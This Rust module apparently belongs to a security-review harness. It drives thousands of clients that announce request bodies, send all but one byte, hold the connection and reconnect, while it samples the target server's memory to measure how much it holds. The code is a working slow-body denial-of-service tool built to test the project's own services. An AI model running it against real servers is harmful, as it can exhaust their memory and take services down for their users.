//! Clients that announce a request body, send part of it and hold their
//! connection: what a security review sent the services' ports to make
//! them hold memory (9,000 connections each sending 64 KiB less a byte to
//! the public port; 800 sending 1 MiB less a byte to the status port).
//! Each client starts again as soon as the server ends its connection,
//! until the attack's time is up, so the server holds as many bodies as it
//! lets them hold. A sampler reads the server's resident set meanwhile.

use std::collections::BTreeMap;
use std::net::SocketAddr;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::time::Instant;

use crate::memory;

/// One attack: `connections` clients, each sending `head` (which announces
/// a body), then `sent` bytes of the body, then holding the connection.
#[derive(Debug, Clone)]
pub struct Attack {
    pub address: SocketAddr,
    pub head: String,
    pub sent: usize,
    pub connections: usize,
    pub lasting: Duration,
}

/// What the clients got, and what the server's memory did.
#[derive(Debug, Clone, Default)]
pub struct Outcome {
    /// Connections opened.
    pub attempts: u64,
    /// Answers by status; 0: the connection ended without one.
    pub answers: BTreeMap<u16, u64>,
    /// The server's resident set before the attack and at its largest
    /// during it (MiB).
    pub rss_before: f64,
    pub rss_peak: f64,
}

impl Outcome {
    /// The largest growth of the resident set, in MB (10^6 bytes).
    pub fn growth_mb(&self) -> f64 {
        (self.rss_peak - self.rss_before).max(0.0) * 1.048_576
    }

    /// `413 × 1234, 503 × 56`.
    pub fn answers_text(&self) -> String {
        let answers: Vec<String> = self
            .answers
            .iter()
            .map(|(status, count)| match status {
                0 => format!("none × {count}"),
                status => format!("{status} × {count}"),
            })
            .collect();
        answers.join(", ")
    }
}

/// How often the server's resident set is read during an attack.
const SAMPLE_EVERY: Duration = Duration::from_millis(100);

/// Bytes of body written at a time.
const PIECE: usize = 16 * 1024;

impl Attack {
    /// Runs the attack against the process `pid` listens at `address`.
    pub async fn run(&self, pid: u32) -> anyhow::Result<Outcome> {
        let rss_before = memory::rss_mib(pid)?;
        let deadline = Instant::now() + self.lasting;
        let tally = Arc::new(Mutex::new(Outcome {
            rss_before,
            rss_peak: rss_before,
            ..Outcome::default()
        }));
        let sampler = {
            let tally = tally.clone();
            tokio::spawn(async move {
                while Instant::now() < deadline {
                    if let Ok(rss) = memory::rss_mib(pid) {
                        let mut tally = tally.lock().expect("no client panics holding the tally");
                        tally.rss_peak = tally.rss_peak.max(rss);
                    }
                    tokio::time::sleep(SAMPLE_EVERY).await;
                }
            })
        };
        let head: Arc<[u8]> = self.head.as_bytes().into();
        let clients: Vec<_> = (0..self.connections)
            .map(|_| {
                let (head, tally, address, sent) = (head.clone(), tally.clone(), self.address, self.sent);
                tokio::spawn(async move {
                    while Instant::now() < deadline {
                        let status = tokio::time::timeout_at(deadline, hold(address, &head, sent)).await;
                        let mut tally = tally.lock().expect("no client panics holding the tally");
                        match status {
                            Ok(Some(status)) => {
                                tally.attempts += 1;
                                *tally.answers.entry(status).or_default() += 1;
                            }
                            Ok(None) => {
                                tally.attempts += 1;
                                *tally.answers.entry(0).or_default() += 1;
                            }
                            // Still held when the attack ends.
                            Err(_) => tally.attempts += 1,
                        }
                    }
                })
            })
            .collect();
        for client in clients {
            client.await?;
        }
        sampler.await?;
        let outcome = tally.lock().expect("no client panics holding the tally").clone();
        Ok(outcome)
    }
}

/// One connection: the head, `sent` bytes of body, then whatever the
/// server answers until it closes: the answer's status, if any.
async fn hold(address: SocketAddr, head: &[u8], sent: usize) -> Option<u16> {
    let Ok(mut stream) = TcpStream::connect(address).await else {
        // The backlog is full, say: try again in a moment.
        tokio::time::sleep(Duration::from_millis(50)).await;
        return None;
    };
    let filler = [b'a'; PIECE];
    let mut written = stream.write_all(head).await.is_ok();
    let mut left = sent;
    while written && left > 0 {
        let piece = left.min(PIECE);
        written = stream.write_all(&filler[..piece]).await.is_ok();
        left -= piece;
    }
    let mut answer = Vec::new();
    let mut buffer = [0; 1024];
    loop {
        match stream.read(&mut buffer).await {
            Ok(0) | Err(_) => break,
            Ok(read) if answer.len() < 64 => answer.extend_from_slice(&buffer[..read]),
            Ok(_) => {}
        }
    }
    let line = String::from_utf8_lossy(&answer);
    line.split_whitespace()
        .nth(1)
        .and_then(|status| status.parse().ok())
}
